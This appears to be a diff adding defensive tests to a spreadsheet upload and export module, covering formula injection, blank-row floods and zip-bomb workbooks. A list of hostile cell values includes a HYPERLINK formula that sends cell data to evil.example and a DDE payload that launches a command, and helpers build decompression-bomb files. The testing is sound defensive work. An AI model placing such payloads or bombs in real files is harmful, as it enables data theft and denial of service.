@@ -193,3 +193,92 @@ def test_xlsx_response_writes_each_sheet_with_a_bold_header_and_number_formats()
     assert [cell.value for cell in first[2]] == [12.5, datetime.datetime(2030, 5, 7, 0, 15), datetime.datetime(2030, 6, 1)]
     assert [cell.number_format for cell in first[2]] == ["#,##0.00", "yyyy-mm-dd hh:mm", "yyyy-mm-dd"]
     assert second["A2"].value == 3.25 and second["A2"].number_format == "General"
+
+
+# Formula cells, blank-row and unpacking bombs -------------------------------------------------------------
+def test_xlsx_write_keeps_what_a_spreadsheet_would_run_as_a_formula_as_text(tmp_path):
+    import zipfile
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1"]
+    rows = [[*hostile, "-5", "plain"]]
+    xlsx_write(str(tmp_path / "formatted.xlsx"), [Sheet("S", [f"c{i}" for i in range(7)], iter(rows))])
+    xlsx_write(str(tmp_path / "plain.xlsx"), [Sheet("S", [f"c{i}" for i in range(7)], iter(rows), number_formats=False)])
+    for name in ("formatted.xlsx", "plain.xlsx"):
+        with zipfile.ZipFile(tmp_path / name) as archive:
+            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml"), "a formula was written"
+        sheet = load_workbook(tmp_path / name).active
+        cells = list(sheet[2])
+        assert [cell.value for cell in cells] == [*hostile, "-5", "plain"]  # the text itself, unchanged
+        assert all(cell.data_type == "s" for cell in cells)
+        assert [cell.quotePrefix for cell in cells[:5]] == [True] * 5  # kept text when someone edits the cell
+        assert not cells[6].quotePrefix
+
+
+def _blank_rows_workbook(header: list[str], blank_rows: int) -> bytes:
+    """A workbook whose sheet has the header and then `blank_rows` rows each holding one empty, styled cell,
+    as a spreadsheet program writes rows someone formatted, and says so in its dimension (60 columns wide,
+    which openpyxl pads every row to): tiny once zipped."""
+    import re
+    import zipfile
+
+    base = xlsx_bytes(header)
+    rows = '<row><c s="0"/></row>' * blank_rows  # numbered in order, as the format allows
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = data.replace(b"</row></sheetData>", b"</row>" + rows.encode() + b"</sheetData>")
+                data = re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="A1:BH{blank_rows + 1}"/>'.encode(), data)
+                assert rows.encode() in data
+            target.writestr(item.filename, data)
+    return buffer.getvalue()
+
+
+def test_a_workbook_of_a_million_blank_rows_is_refused_at_the_row_limit_quickly():
+    import time
+
+    from purchase_orders.imports import REQUIRED_COLUMNS, parse_purchase_orders
+
+    content = _blank_rows_workbook(list(REQUIRED_COLUMNS), 1_000_000)
+    assert len(content) < tables.UPLOAD_MAX_BYTES
+    started = time.perf_counter()
+    with pytest.raises(UploadError, match="more than 5000 lines") as refused:
+        parse_purchase_orders("orders.xlsx", content)
+    assert time.perf_counter() - started < 5
+    assert "blank lines count too" in refused.value.message
+
+    # the header is checked before any other row is read: a wrong one is refused at once
+    started = time.perf_counter()
+    with pytest.raises(UploadError, match="Missing columns"):
+        parse_purchase_orders("orders.xlsx", _blank_rows_workbook(["note"], 1_000_000))
+    assert time.perf_counter() - started < 5
+
+
+def test_blank_rows_count_towards_the_row_limit_and_the_header_check_comes_first():
+    content = b"po_number\n" + b"\n" * 3 + b"PO-1\n"
+    assert read_table("orders.csv", content, max_rows=4)[1] == [(5, ["PO-1"])]
+    with pytest.raises(UploadError, match="more than 3 lines"):
+        read_table("orders.csv", content, max_rows=3)
+    seen = []
+
+    def check_header(header):
+        seen.append(header)
+        raise UploadError("no po_number")
+
+    with pytest.raises(UploadError, match="no po_number"):
+        read_table("orders.csv", b"vendor\n" + b"x\n" * 10, check_header=check_header)
+    assert seen == [["vendor"]]
+
+
+def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_opened():
+    import zipfile
+
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(["po_number"]))) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            target.writestr(item.filename, source.read(item.filename))
+        target.writestr("xl/padding.bin", b"\0" * (tables.XLSX_MAX_UNPACKED + 1))
+    assert len(buffer.getvalue()) < tables.UPLOAD_MAX_BYTES
+    with pytest.raises(UploadError, match="unpacks to more than 64 MB"):
+        read_table("orders.xlsx", buffer.getvalue())
